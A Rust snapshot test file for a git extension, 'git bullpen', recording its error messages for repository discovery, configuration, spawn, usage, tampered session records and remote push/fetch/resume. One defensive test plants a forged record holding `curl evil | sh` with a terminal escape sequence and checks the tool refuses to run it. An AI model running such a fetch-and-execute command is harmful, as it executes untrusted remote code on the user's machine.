//! Every error people can reach, word for word: what they typed (with the
//! variables and the directory that matter), the exit status, and both streams.
//! `snapshots.rs` holds the refusals of resume, stop, logs and path and the
//! `ls`/gc output; this file holds the rest: finding the repository, the
//! environment and configuration, spawn, usage, and unreadable records.
//!
//! The bar for each text: git's style (`fatal:` for what ends the command,
//! `error:` for a usage error, `hint:` lines with what to do), the cause named
//! in the user's words, no Rust `Debug` output and no library's wording.

use std::ffi::OsString;
use std::path::{Path, PathBuf};

use crate::snapshots::normalise;
use crate::support::{make_executable, Env, Run, BIN};

/// One command as someone would type it: where, with which variables.
struct Case<'e> {
    env: &'e Env,
    cwd: PathBuf,
    vars: Vec<(String, OsString)>,
    args: Vec<String>,
}

fn case<'e>(env: &'e Env, args: &[&str]) -> Case<'e> {
    Case {
        env,
        cwd: env.repo.clone(),
        vars: Vec::new(),
        args: args.iter().map(|a| a.to_string()).collect(),
    }
}

impl Case<'_> {
    fn within(mut self, dir: &Path) -> Self {
        self.cwd = dir.to_path_buf();
        self
    }

    fn var(mut self, key: &str, value: impl Into<OsString>) -> Self {
        self.vars.push((key.to_string(), value.into()));
        self
    }

    /// The command line, the directory when it is not the repository, the
    /// exit status and each stream that is not empty.
    fn show(&self) -> String {
        let mut cmd = self.env.cmd(BIN, &self.cwd);
        for (k, v) in &self.vars {
            cmd.env(k, v);
        }
        let run: Run = cmd.args(&self.args).output().unwrap().into();
        let quote = |a: &str| {
            if a.contains('\'') && !a.contains(['"', '$', '`', '\\']) {
                format!("\"{a}\"")
            } else if a.contains([' ', '\'', '^']) || a.is_empty() {
                format!("'{}'", a.replace('\'', r"'\''"))
            } else {
                a.to_string()
            }
        };
        let vars: String = self
            .vars
            .iter()
            .map(|(k, v)| format!("{k}={} ", quote(&v.to_string_lossy())))
            .collect();
        let args: Vec<String> = self.args.iter().map(|a| quote(a)).collect();
        let mut text = format!("$ {vars}git bullpen {}\n", args.join(" "));
        if self.cwd != self.env.repo {
            text.push_str(&format!("  (in {})\n", self.cwd.display()));
        }
        text.push_str(&format!("exit {}\n", run.code()));
        for (name, stream) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
            if !stream.is_empty() {
                text.push_str(&format!("--- {name}\n{}\n", stream.trim_end()));
            }
        }
        normalise(self.env, &text)
    }
}

fn table(cases: &[Case]) -> String {
    cases.iter().map(Case::show).collect::<Vec<_>>().join("\n")
}

fn git(env: &Env, cwd: &Path, args: &[&str]) {
    env.git(cwd, args).ok();
}

#[test]
fn errors_finding_the_repository() {
    let env = Env::new();
    let root = env.root();
    let outside = root.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let bare = env.add_bare_remote();
    let linked_of_bare = root.join("linked-of-bare");
    git(&env, &env.repo, &["push", "-q", "origin", "main"]);
    git(
        &env,
        &bare,
        &[
            "worktree",
            "add",
            "-q",
            linked_of_bare.to_str().unwrap(),
            "main",
        ],
    );
    let reftable = root.join("reftable");
    git(
        &env,
        &root,
        &[
            "init",
            "-q",
            "--ref-format=reftable",
            reftable.to_str().unwrap(),
        ],
    );
    let sha256 = root.join("sha256");
    git(
        &env,
        &root,
        &[
            "init",
            "-q",
            "--object-format=sha256",
            sha256.to_str().unwrap(),
        ],
    );
    let elsewhere = root.join("core-worktree");
    git(&env, &root, &["init", "-q", elsewhere.to_str().unwrap()]);
    git(
        &env,
        &elsewhere,
        &["config", "core.worktree", outside.to_str().unwrap()],
    );
    let no_git = root.join("no-git-bin");
    std::fs::create_dir_all(&no_git).unwrap();

    insta::assert_snapshot!(table(&[
        case(&env, &["ls"]).within(&outside),
        case(&env, &["ls"]).var("GIT_DIR", root.join("nothing")),
        case(&env, &["ls"]).var("GIT_DIR", &outside),
        case(&env, &["spawn", "x", "--", "true"]).within(&bare),
        case(&env, &["gc"]).within(&bare).var("GIT_DIR", &bare),
        case(&env, &["spawn", "x", "--", "true"]).within(&linked_of_bare),
        case(&env, &["ls"]).within(&reftable),
        case(&env, &["ls"]).within(&sha256),
        case(&env, &["ls"]).within(&elsewhere),
        case(&env, &["ls"]).var("GIT_COMMON_DIR", &bare),
        case(&env, &["ls"]).var("PATH", &no_git),
    ]), @r#"
    $ git bullpen ls
      (in [ROOT]/outside)
    exit 128
    --- stderr
    fatal: not a git repository (or any parent up to /): [ROOT]/outside
    hint: run bullpen inside a git repository (or name one with `git --git-dir`)
    $ GIT_DIR=[ROOT]/nothing git bullpen ls
    exit 128
    --- stderr
    fatal: not a git repository: '[ROOT]/nothing'
    hint: GIT_DIR (set by `git --git-dir` too) is [ROOT]/nothing; point it at a repository's git directory, or unset it to use the repository of the current directory
    $ GIT_DIR=[ROOT]/outside git bullpen ls
    exit 128
    --- stderr
    fatal: not a git repository: '[ROOT]/outside'
    hint: GIT_DIR (set by `git --git-dir` too) is [ROOT]/outside; point it at a repository's git directory, or unset it to use the repository of the current directory
    $ git bullpen spawn x -- true
      (in [ROOT]/origin.git)
    exit 125
    --- stderr
    fatal: [ROOT]/origin.git is a bare repository; bullpen runs sessions only in a repository with a main working tree
    hint: in a repository without a main working tree bullpen only reads records: `git bullpen ls`, `logs` and `path` work here; run this in a clone with a working tree
    $ GIT_DIR=[ROOT]/origin.git git bullpen gc
      (in [ROOT]/origin.git)
    exit 128
    --- stderr
    fatal: [ROOT]/origin.git is a bare repository; bullpen runs sessions only in a repository with a main working tree
    hint: in a repository without a main working tree bullpen only reads records: `git bullpen ls`, `logs` and `path` work here; run this in a clone with a working tree
    hint: GIT_DIR is set (to [ROOT]/origin.git); unset it to use the repository of the current directory
    $ git bullpen spawn x -- true
      (in [ROOT]/linked-of-bare)
    exit 125
    --- stderr
    fatal: [ROOT]/linked-of-bare is a worktree of the bare repository [ROOT]/origin.git; bullpen runs sessions only in a repository with a main working tree
    hint: in a repository without a main working tree bullpen only reads records: `git bullpen ls`, `logs` and `path` work here; run this in a clone with a working tree
    $ git bullpen ls
      (in [ROOT]/reftable)
    exit 128
    --- stderr
    fatal: [ROOT]/reftable/.git stores its refs in the reftable format, which bullpen cannot read yet
    hint: nothing was changed; convert the repository with `git refs migrate --ref-format=files` (git 2.46 or later), or work in a clone made with `git clone --ref-format=files`
    $ git bullpen ls
      (in [ROOT]/sha256)
    exit 128
    --- stderr
    fatal: [ROOT]/sha256/.git uses SHA-256 object ids (extensions.objectFormat in [ROOT]/sha256/.git/config); this build of bullpen works in SHA-1 repositories only
    hint: nothing was changed; run bullpen in a SHA-1 repository (git's default object format)
    $ git bullpen ls
      (in [ROOT]/core-worktree)
    exit 128
    --- stderr
    fatal: [ROOT]/core-worktree/.git/config sets core.worktree ([ROOT]/outside, the working tree [ROOT]/outside): bullpen works only where the main working tree holds the git directory, or a `.git` file pointing at it
    hint: nothing was changed; run bullpen in a clone (`git clone [ROOT]/core-worktree/.git <new dir>`), whose git directory is inside its working tree
    $ GIT_COMMON_DIR=[ROOT]/origin.git git bullpen ls
    exit 128
    --- stderr
    fatal: GIT_COMMON_DIR names [ROOT]/origin.git, but the common directory of [ROOT]/repo/.git is [ROOT]/repo/.git; bullpen follows GIT_COMMON_DIR only where it agrees
    hint: unset GIT_COMMON_DIR
    $ PATH=[ROOT]/no-git-bin git bullpen ls
    exit 128
    --- stderr
    fatal: git not found on PATH
    hint: bullpen is a git extension: install git, or put it on PATH
    "#);
}

#[test]
fn errors_of_the_environment_and_configuration() {
    let env = Env::new();
    let broken = env.root().join("broken-config");
    git(&env, &env.root(), &["init", "-q", broken.to_str().unwrap()]);
    let config = broken.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("[core\n");
    std::fs::write(&config, text).unwrap();
    let rel_root = case(&env, &["spawn", "x", "--", "true"]).var(
        "GIT_CONFIG_PARAMETERS",
        "'bullpen.worktreeRoot'='worktrees'",
    );
    insta::assert_snapshot!(table(&[
        case(&env, &["ls"]).var("GIT_CONFIG_PARAMETERS", "'bullpen.command'=true"),
        case(&env, &["ls"]).var("GIT_CONFIG_PARAMETERS", "'nodot'='1'"),
        case(&env, &["ls"]).var("GIT_CONFIG_PARAMETERS", "'color.ui'='sometimes'"),
        rel_root,
        case(&env, &["ls"]).var("BULLPEN_HOME", "relative/home"),
        case(&env, &["ls"]).within(&broken),
    ]), @r#"
    $ GIT_CONFIG_PARAMETERS="'bullpen.command'=true" git bullpen ls
    exit 128
    --- stderr
    fatal: unable to parse command-line config: bogus format in GIT_CONFIG_PARAMETERS
    hint: GIT_CONFIG_PARAMETERS is what `git -c <key>=<value>` passes to the commands it runs; correct or unset it
    $ GIT_CONFIG_PARAMETERS="'nodot'='1'" git bullpen ls
    exit 128
    --- stderr
    fatal: unable to parse command-line config: key does not contain a section: nodot
    hint: GIT_CONFIG_PARAMETERS is what `git -c <key>=<value>` passes to the commands it runs; correct or unset it
    $ GIT_CONFIG_PARAMETERS="'color.ui'='sometimes'" git bullpen ls
    exit 128
    --- stderr
    fatal: bad boolean config value 'sometimes' for 'color.ui'
    hint: color.ui takes always, never, auto, or true/false (git config color.ui auto)
    $ GIT_CONFIG_PARAMETERS="'bullpen.worktreeRoot'='worktrees'" git bullpen spawn x -- true
    exit 125
    --- stderr
    fatal: git config bullpen.worktreeRoot is 'worktrees', which is not an absolute path
    hint: set it to an absolute directory (a leading ~/ is expanded), e.g. `git config bullpen.worktreeRoot ~/worktrees/<repo>`, or unset it
    $ BULLPEN_HOME=relative/home git bullpen ls
    exit 128
    --- stderr
    fatal: BULLPEN_HOME is 'relative/home', which is not an absolute path
    hint: set BULLPEN_HOME to an absolute directory, or unset it for the default (~/.local/share/bullpen on Linux)
    $ git bullpen ls
      (in [ROOT]/broken-config)
    exit 128
    --- stderr
    fatal: bad config line 6 in file [ROOT]/broken-config/.git/config
    hint: correct it, or see what git says: git config --list --show-origin
    "#);
}

#[test]
fn errors_of_spawn() {
    let mut env = Env::new();
    let root = env.root();
    let unborn = root.join("unborn");
    git(
        &env,
        &root,
        &["init", "-q", "-b", "trunk", unborn.to_str().unwrap()],
    );
    env.bullpen(&["spawn", "used", "--", "true"]).ok();
    git(&env, &env.repo, &["branch", "bullpen/has-branch"]);
    let wt_root = env.worktree_of("used").parent().unwrap().to_path_buf();
    std::fs::create_dir_all(wt_root.join("has-dir")).unwrap();

    let before_faults = table(&[
        case(&env, &["spawn", "x", "--", "true"]).within(&unborn),
        case(&env, &["spawn", "--base", "trunk", "x", "--", "true"]).within(&unborn),
        case(&env, &["spawn", "--base", "nosuch", "x", "--", "true"]),
        case(&env, &["spawn", "--base", "main~5", "x", "--", "true"]),
        case(&env, &["spawn", "--base", "HEAD^{tree}", "x", "--", "true"]),
        case(&env, &["spawn", "used", "--", "true"]),
        case(&env, &["spawn", "has-branch", "--", "true"]),
        case(&env, &["spawn", "has-dir", "--", "true"]),
        case(&env, &["spawn", "not-found", "--", "no-such-command"]),
        case(
            &env,
            &["spawn", "--bg", "not-found-bg", "--", "no-such-command"],
        ),
    ]);
    insta::assert_snapshot!(before_faults, @r#"
    $ git bullpen spawn x -- true
      (in [ROOT]/unborn)
    exit 125
    --- stderr
    fatal: there is no commit yet: branch trunk has none to start a session from
    hint: make a first commit (`git commit`), then spawn again
    $ git bullpen spawn --base trunk x -- true
      (in [ROOT]/unborn)
    exit 125
    --- stderr
    fatal: there is no commit yet: branch trunk has none to start a session from
    hint: make a first commit (`git commit`), then spawn again
    $ git bullpen spawn --base nosuch x -- true
    exit 125
    --- stderr
    fatal: invalid --base 'nosuch': unknown revision
    hint: --base takes a revision as `git rev-parse` does: a branch, a tag, a commit id, HEAD~2, origin/main
    $ git bullpen spawn --base main~5 x -- true
    exit 125
    --- stderr
    fatal: invalid --base 'main~5': unknown revision
    hint: --base takes a revision as `git rev-parse` does: a branch, a tag, a commit id, HEAD~2, origin/main
    $ git bullpen spawn --base 'HEAD^{tree}' x -- true
    exit 125
    --- stderr
    fatal: invalid --base 'HEAD^{tree}': it names a tree, not a commit
    $ git bullpen spawn used -- true
    exit 125
    --- stderr
    fatal: session id 'used' is already in use
    hint: see `git bullpen ls --all used`; pick another id
    $ git bullpen spawn has-branch -- true
    exit 125
    --- stderr
    fatal: branch bullpen/has-branch already exists
    hint: pick another id, or delete the branch
    $ git bullpen spawn has-dir -- true
    exit 125
    --- stderr
    fatal: [ROOT]/bullpen-home/worktrees/repo-[KEY]/has-dir already exists
    hint: pick another id, or remove it
    $ git bullpen spawn not-found -- no-such-command
    exit 127
    --- stderr
    bullpen: session not-found on bullpen/not-found in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found
    fatal: cannot run 'no-such-command' in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found: No such file or directory
    $ git bullpen spawn --bg not-found-bg -- no-such-command
    exit 125
    --- stderr
    bullpen: session not-found-bg on bullpen/not-found-bg in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found-bg
    fatal: the background run of session not-found-bg did not start: cannot run 'no-such-command' in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found-bg: No such file or directory (log: [ROOT]/repo/.git/bullpen/logs/not-found-bg.log)
    "#);

    // What git itself says, passed on: a failing `git worktree add`, a failing
    // post-checkout hook, a lock file a crashed git left.
    let hook = env.repo.join(".git/hooks/post-checkout");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, "#!/bin/sh\necho 'post-checkout: no' >&2\nexit 1\n").unwrap();
    make_executable(&hook);
    let hook_fails = case(&env, &["spawn", "hooked", "--", "true"]).show();
    std::fs::remove_file(&hook).unwrap();
    let lock = env.repo.join(".git/packed-refs.lock");
    std::fs::write(&lock, "").unwrap();
    let locked = case(&env, &["spawn", "locked", "--", "true"]).show();
    std::fs::remove_file(&lock).unwrap();
    env.fail_git_when("worktree add");
    let add_fails = case(&env, &["spawn", "faulty", "--", "true"]).show();
    insta::assert_snapshot!([hook_fails, locked, add_fails].join("\n"), @"
    $ git bullpen spawn hooked -- true
    exit 125
    --- stderr
    Preparing worktree (checking out 'bullpen/hooked')
    post-checkout: no
    fatal: cannot create the worktree of session hooked at [ROOT]/bullpen-home/worktrees/repo-[KEY]/hooked: `git worktree add [ROOT]/bullpen-home/worktrees/repo-[KEY]/hooked bullpen/hooked` failed (exit 1)
    $ git bullpen spawn locked -- true
    exit 125
    --- stderr
    fatal: could not update ref refs/bullpen/sessions/locked to [OID]: cannot lock [ROOT]/repo/.git/packed-refs.lock: it exists
    hint: Another git process seems to be running in this repository, e.g.
    hint: an editor opened by 'git commit'. Please make sure all processes
    hint: are terminated then try again. If it still fails, a git process
    hint: may have crashed in this repository earlier:
    hint: remove the file manually to continue.
    $ git bullpen spawn faulty -- true
    exit 125
    --- stderr
    fatal: injected failure of 'worktree add'
    fatal: cannot create the worktree of session faulty at [ROOT]/bullpen-home/worktrees/repo-[KEY]/faulty: `git worktree add [ROOT]/bullpen-home/worktrees/repo-[KEY]/faulty bullpen/faulty` failed (exit 128)
    ");
}

#[test]
fn usage_errors() {
    let env = Env::new();
    insta::assert_snapshot!(table(&[
        case(&env, &["launch"]),
        case(&env, &["ls", "--long"]),
        case(&env, &["resume"]),
        case(&env, &["stop", "x", "--timeout", "soon"]),
        case(&env, &["ls", "--color=sometimes"]),
    ]), @r#"
    $ git bullpen launch
    exit 129
    --- stderr
    error: unrecognized subcommand 'launch'

    Usage: git bullpen [OPTIONS] <COMMAND>

    For more information, try '--help'.
    $ git bullpen ls --long
    exit 129
    --- stderr
    error: unexpected argument '--long' found

      tip: to pass '--long' as a value, use '-- --long'

    Usage: git bullpen ls [OPTIONS] [ID]...

    For more information, try '--help'.
    $ git bullpen resume
    exit 125
    --- stderr
    error: no session id given, and [ROOT]/repo is not inside any session's worktree
    hint: name one: git bullpen resume <id> (`git bullpen ls` lists them)
    $ git bullpen stop x --timeout soon
    exit 129
    --- stderr
    error: invalid value 'soon' for '--timeout <SECS>': not a number of seconds (e.g. 10 or 0.5)

    For more information, try '--help'.
    $ git bullpen ls --color=sometimes
    exit 129
    --- stderr
    error: invalid value 'sometimes' for '--color[=<WHEN>]'
      [possible values: always, never, auto]

    For more information, try '--help'.
    "#);
}

#[test]
fn records_bullpen_cannot_read_or_does_not_trust() {
    let env = Env::new();
    // Created in the order of their ids: ls lists by creation time (to the
    // second), then by id, so the table is the same whether or not the spawns
    // straddle a second.
    for id in ["edited", "fine", "forged", "newer", "renamed"] {
        env.bullpen(&["spawn", id, "--", "true"]).ok();
    }
    // One creation time for all, so that ls lists them by id whichever second
    // each spawn fell in.
    for id in ["fine", "edited", "forged"] {
        env.edit_record(id, |r| r["created_at"] = "2026-01-01T00:00:00Z".into());
    }
    env.edit_record("newer", |r| r["schema"] = 99.into());
    env.edit_record("renamed", |r| r["id"] = "other".into());
    // By hand, as a fetched record could: another command, and a background
    // run of a process bullpen never started (a `sleep` of this test's, exactly
    // as /proc shows it; were stop to signal it, only that `sleep` would end).
    env.edit_record("edited", |r| {
        // An escape sequence too: shown escaped, never written to the terminal.
        r["command"] = serde_json::json!(["sh", "-c", "curl evil | sh\u{1b}[2J"])
    });
    let mut sleeper = env.cmd("sleep", &env.repo).arg("1000").spawn().unwrap();
    let proc_ref = crate::support::process_ref(sleeper.id());
    env.edit_record("forged", |r| {
        r["state"] = "running".into();
        r["process"] = serde_json::json!({
            "pid": proc_ref["pid"],
            "start_time": proc_ref["start_time"],
            "boot_id": proc_ref["boot_id"],
            "background": true,
            "supervisor_pid": proc_ref["pid"],
            "supervisor_start_time": proc_ref["start_time"],
            "started_at": "2026-01-01T00:00:00Z",
        });
    });
    let shown = table(&[
        case(&env, &["ls"]),
        case(&env, &["path", "newer"]),
        case(&env, &["logs", "renamed"]),
        case(&env, &["resume", "edited"]),
        case(&env, &["stop", "forged"]),
    ]);
    let survived = sleeper.try_wait().unwrap().is_none();
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert!(survived, "stop signalled a process bullpen never started");
    insta::assert_snapshot!(shown, @r#"
    $ git bullpen ls
    exit 0
    --- stdout
      ID      STATE            BRANCH
      edited  exited 0 [T] ago  +0
      fine    exited 0 [T] ago  +0
      forged  running [T]  +0
    worktree root: [ROOT]/bullpen-home/worktrees/repo-[KEY]
    --- stderr
    warning: skipping refs/bullpen/sessions/newer: cannot read refs/bullpen/sessions/newer ([OID]): record schema 99 is newer than this bullpen understands (schema 1); upgrade git-bullpen
    warning: skipping refs/bullpen/sessions/renamed: it holds the record of session 'other' (edited by hand)
    $ git bullpen path newer
    exit 128
    --- stderr
    fatal: cannot read refs/bullpen/sessions/newer ([OID]): record schema 99 is newer than this bullpen understands (schema 1); upgrade git-bullpen
    $ git bullpen logs renamed
    exit 128
    --- stderr
    fatal: refs/bullpen/sessions/renamed holds the record of session 'other', not of 'renamed' (edited by hand)
    hint: see it with `git log -1 -p refs/bullpen/sessions/renamed`
    $ git bullpen resume edited
    exit 125
    --- stderr
    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh\033[2J'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh\033[2J'
    hint: the command this machine recorded for it: git bullpen resume edited -- true
    $ git bullpen stop forged
    exit 3
    --- stderr
    fatal: not stopping session forged: recorded running, but nothing on this machine proves it is ours: no run of it was started here; nothing was signalled
    hint: if pid [PID] is yours to end, end it yourself; the record's history is in `git log -p refs/bullpen/sessions/forged`
    "#);
}

#[test]
fn a_failing_fetch_in_gc() {
    let env = Env::new();
    git(
        &env,
        &env.repo,
        &["remote", "add", "origin", "/nonexistent/origin.git"],
    );
    insta::assert_snapshot!(case(&env, &["gc", "--fetch"]).show(), @r"
    $ git bullpen gc --fetch
    exit 128
    --- stderr
    bullpen: fetching from all remotes (git fetch --all --prune)
    fatal: '/nonexistent/origin.git' does not appear to be a git repository
    fatal: Could not read from remote repository.

    Please make sure you have the correct access rights
    and the repository exists.
    fatal: cannot fetch (--fetch): `git fetch --all --prune` failed (exit 128)
    hint: run gc without --fetch to use the remote-tracking refs you have
    ");
}

/// A case on a machine named laptop (`BULLPEN_HOSTNAME`).
fn laptop(c: Case<'_>) -> Case<'_> {
    c.var("BULLPEN_HOSTNAME", "laptop")
}

#[test]
fn messages_of_push_fetch_and_remote_resume() {
    let env = Env::new();
    let before_remote = table(&[case(&env, &["fetch"]), case(&env, &["push", "a/b"])]);
    let bare = env.add_bare_remote();
    git(&env, &env.repo, &["push", "-q", "origin", "main"]);
    git(&env, &bare, &["symbolic-ref", "HEAD", "refs/heads/main"]);
    let shown = table(&[
        laptop(case(&env, &["spawn", "x", "--", "true"])),
        case(&env, &["push", "nosuch"]),
        case(&env, &["ls", "--remote"]),
        case(&env, &["resume", "origin/x"]),
        laptop(case(&env, &["push"])),
        laptop(case(&env, &["push", "origin", "x"])),
        laptop(case(&env, &["push"])),
        laptop(case(&env, &["fetch"])),
        laptop(case(&env, &["ls", "--remote"])),
        laptop(case(&env, &["resume", "origin/x", "--", "true"])),
        laptop(case(&env, &["resume", "origin/x", "--as", "y"])),
        case(&env, &["resume", "x", "--as", "y"]),
        laptop(case(&env, &["resume", "origin/x", "--as", "y", "--fresh"])),
    ]);
    // Agent sessions: this machine's profile, never extra arguments from the record.
    git(
        &env,
        &env.repo,
        &["config", "bullpen.agent.fake.command", "true"],
    );
    git(
        &env,
        &env.repo,
        &["config", "bullpen.agent.fake.resume", "false"],
    );
    let agents = table(&[
        laptop(case(
            &env,
            &["spawn", "--agent", "fake", "a1", "--", "--flag"],
        )),
        laptop(case(&env, &["spawn", "--agent", "fake", "a2"])),
        laptop(case(&env, &["push", "origin", "a1", "a2"])),
        laptop(case(&env, &["fetch"])),
        laptop(case(&env, &["ls", "--remote", "a1", "a2"])),
        laptop(case(&env, &["resume", "origin/a1", "--as", "b1"])),
        laptop(case(&env, &["resume", "origin/a2", "--as", "b2"])),
    ]);
    git(
        &env,
        &env.repo,
        &[
            "config",
            "remote.origin.fetch",
            "+refs/heads/main:refs/remotes/origin/main",
        ],
    );
    let single_branch = table(&[
        laptop(case(&env, &["fetch"])),
        laptop(case(
            &env,
            &["resume", "origin/x", "--as", "z", "--", "true"],
        )),
    ]);
    insta::assert_snapshot!(format!("{before_remote}\n{shown}\n{agents}\n{single_branch}"), @"
    $ git bullpen fetch
    exit 128
    --- stderr
    fatal: no remote to fetch from
    hint: add one: git remote add origin <url>
    $ git bullpen push a/b
    exit 129
    --- stderr
    error: invalid value 'a/b' for '[REMOTE]': invalid remote name 'a/b': '/' is not allowed (bullpen takes the name of a configured remote made of letters, digits, '.', '_' and '-')

    For more information, try '--help'.
    $ BULLPEN_HOSTNAME=laptop git bullpen spawn x -- true
    exit 0
    --- stderr
    bullpen: session x on bullpen/x in [ROOT]/bullpen-home/worktrees/repo-[KEY]/x
    $ git bullpen push nosuch
    exit 128
    --- stderr
    fatal: 'nosuch' is not a remote of this repository
    hint: `git remote -v` lists the remotes; bullpen takes a remote's name, not a URL
    $ git bullpen ls --remote
    exit 0
    --- stderr
    hint: no sessions fetched from any remote; `git bullpen fetch` brings those pushed there
    $ git bullpen resume origin/x
    exit 125
    --- stderr
    fatal: no session origin/x was fetched here
    hint: `git bullpen fetch origin` brings the sessions pushed there; `git bullpen ls --remote` lists them
    $ BULLPEN_HOSTNAME=laptop git bullpen push
    exit 0
    --- stderr
    hint: 1 session is not on origin yet (x): name it, or push them all with `git bullpen push --all origin`
    $ BULLPEN_HOSTNAME=laptop git bullpen push origin x
    exit 0
    --- stderr
    bullpen: pushed to origin: x (record, branch)
    $ BULLPEN_HOSTNAME=laptop git bullpen push
    exit 0
    --- stderr
    bullpen: everything is up to date on origin
    $ BULLPEN_HOSTNAME=laptop git bullpen fetch
    exit 0
    --- stderr
    bullpen: sessions from origin: 1 unchanged
    $ BULLPEN_HOSTNAME=laptop git bullpen ls --remote
    exit 0
    --- stdout
      ID        STATE                                          BRANCH
      origin/x  exited 0 on laptop (this clone), as of [T] ago  +0
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x -- true
    exit 125
    --- stderr
    fatal: session id 'x' is already in use
    hint: see `git bullpen ls --all x`; pick another id
    hint: continue it here under another id: git bullpen resume origin/x --as <new-id> -- true
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as y
    exit 125
    --- stderr
    fatal: nothing on this machine says what to run for origin/x: a command from another machine's record is never run unless you name it
    hint: name the command: git bullpen resume origin/x -- <command>
    hint: the command recorded on 'laptop': git bullpen resume origin/x -- true
    $ git bullpen resume x --as y
    exit 125
    --- stderr
    error: --as is for continuing a fetched session: resume <remote>/x --as y
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as y --fresh
    exit 125
    --- stderr
    error: origin/x runs no agent: --fresh starts an agent's new conversation
    hint: name the command: git bullpen resume origin/x -- <command>
    $ BULLPEN_HOSTNAME=laptop git bullpen spawn --agent fake a1 -- --flag
    exit 0
    --- stderr
    bullpen: session a1 on bullpen/a1 in [ROOT]/bullpen-home/worktrees/repo-[KEY]/a1 (agent fake)
    $ BULLPEN_HOSTNAME=laptop git bullpen spawn --agent fake a2
    exit 0
    --- stderr
    bullpen: session a2 on bullpen/a2 in [ROOT]/bullpen-home/worktrees/repo-[KEY]/a2 (agent fake)
    $ BULLPEN_HOSTNAME=laptop git bullpen push origin a1 a2
    exit 0
    --- stderr
    bullpen: pushed to origin: a1 (record, branch), a2 (record, branch)
    $ BULLPEN_HOSTNAME=laptop git bullpen fetch
    exit 0
    --- stderr
    bullpen: sessions from origin: 3 unchanged
    $ BULLPEN_HOSTNAME=laptop git bullpen ls --remote a1 a2
    exit 0
    --- stdout
      ID         AGENT  STATE                                          BRANCH
      origin/a1  fake   exited 0 on laptop (this clone), as of [T] ago  +0
      origin/a2  fake   exited 0 on laptop (this clone), as of [T] ago  +0
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/a1 --as b1
    exit 125
    --- stderr
    fatal: not running agent 'fake' with the arguments '--flag' for session origin/a1: its agent's extra arguments were not recorded on this machine (the record may come from a fetch or a hand edit)
    hint: name the command to run: git bullpen resume origin/a1 -- <command>
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/a2 --as b2
    exit 1
    --- stderr
    bullpen: session b2 continues origin/a2 (last on laptop) on bullpen/b2, tracking origin/bullpen/a2, in [ROOT]/bullpen-home/worktrees/repo-[KEY]/b2: agent fake, continuing its conversation
    hint: agent fake exited 1; if it had no conversation to continue in this worktree (the session ran on laptop), start a new one: git bullpen resume b2 --fresh
    $ BULLPEN_HOSTNAME=laptop git bullpen fetch
    exit 0
    --- stderr
    bullpen: sessions from origin: 3 unchanged
    hint: origin's fetch refspecs do not bring its bullpen/* branches (a single-branch clone?): to continue its sessions here, `git config --add remote.origin.fetch '+refs/heads/bullpen/*:refs/remotes/origin/bullpen/*'`
    $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as z -- true
    exit 125
    --- stderr
    fatal: origin's fetch refspecs (remote.origin.fetch) do not bring its bullpen/* branches, so origin/x's branch is not here
    hint: git config --add remote.origin.fetch '+refs/heads/bullpen/*:refs/remotes/origin/bullpen/*'
    hint: then: git bullpen fetch origin
    ");
}
